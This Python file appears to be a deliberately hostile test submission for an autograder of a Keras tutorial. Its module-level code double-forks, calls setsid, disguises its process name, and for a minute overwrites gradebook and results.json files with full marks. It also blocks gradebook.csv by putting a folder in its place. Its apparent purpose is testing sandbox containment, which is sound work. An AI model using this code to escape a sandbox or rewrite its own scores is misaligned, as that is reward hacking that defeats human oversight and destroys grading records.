"""Hostile: leave a process behind that changes its pid and, later, rewrites the outputs.

Honest points: 10.  It forks, the parent exits, it calls ``setsid`` and
forks again (slipping past a scan of the process group), names itself
``kata-linger``, and for a minute looks for a gradebook, feedback, cached
records or Gradescope's ``results.json`` to rewrite with full marks, and puts
a folder where ``gradebook.csv`` goes.  In the sandbox it dies with its
lesson and can't see any of them anyway.
"""

import ctypes
import os
import sys
import time
from pathlib import Path

import keras

_SKIP = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}


def _targets():
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in _SKIP and "site-packages" not in d]
        for name in files:
            if name in ("gradebook.csv", "results.json") or folder.endswith((".kata-grade", "feedback", "gradescope")):
                yield Path(folder, name)


def _tamper():
    for path in list(_targets()):
        try:
            if path.name == "gradebook.csv":
                path.unlink()
                path.mkdir()  # the next gradebook can't be written
            else:
                path.write_text('{"score": 10, "tampered": true}\n')
        except OSError:
            pass


_first = os.fork()
if _first == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"kata-linger", 0, 0, 0)
        _end = time.monotonic() + 60
        while time.monotonic() < _end:
            _tamper()
            time.sleep(0.5)
    os._exit(0)
os.waitpid(_first, 0)


def build_model():
    """The tutorial's model: Input(28, 28) → Flatten → Dense(128, relu) → Dense(10)."""
    model = keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(128, activation="relu"),
            keras.layers.Dense(10),
        ]
    )
    return model
